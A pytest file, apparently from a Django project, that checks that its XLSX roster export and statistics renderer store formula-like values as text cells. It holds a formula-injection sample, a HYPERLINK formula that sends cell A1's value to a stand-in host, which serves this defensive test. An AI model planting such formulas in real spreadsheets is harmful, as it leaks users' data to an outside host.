"""A name that starts like a formula is exported as text, never as a live formula, and the
roster still round-trips."""

from __future__ import annotations

import io

import openpyxl
import pytest

from kiemdiem.documents.xlsx import XlsxSheet, render_xlsx
from kiemdiem.orgs.roster.exporter import roster_export
from kiemdiem.orgs.roster.importer import roster_import

pytestmark = pytest.mark.django_db
HOSTILE = '=HYPERLINK("http://example.invalid/?"&A1,"Bấm vào đây")'


def test_the_roster_export_writes_a_formula_like_name_as_text(cast):
    cast.person_a.position = HOSTILE
    cast.person_a.save(update_fields=["position"])
    data = roster_export(for_user=cast.officer)
    sheet = openpyxl.load_workbook(io.BytesIO(data))["Đảng viên"]
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == HOSTILE]
    assert cells
    assert all(cell.data_type == "s" for cell in cells)
    report = roster_import(actor=cast.officer, files=[("xuat.xlsx", data)])
    assert report.ok
    assert not report.changed


def test_a_statistics_table_writes_formula_like_text_as_text():
    data = render_xlsx(
        [XlsxSheet(title="T", heading=("+tiêu đề",), headers=("Tên",), rows=(("@SUM(1)",),))]
    )
    sheet = openpyxl.load_workbook(io.BytesIO(data))["T"]
    risky = [c for row in sheet.iter_rows() for c in row if c.value in {"+tiêu đề", "@SUM(1)"}]
    assert len(risky) == 2
    assert {cell.data_type for cell in risky} == {"s"}
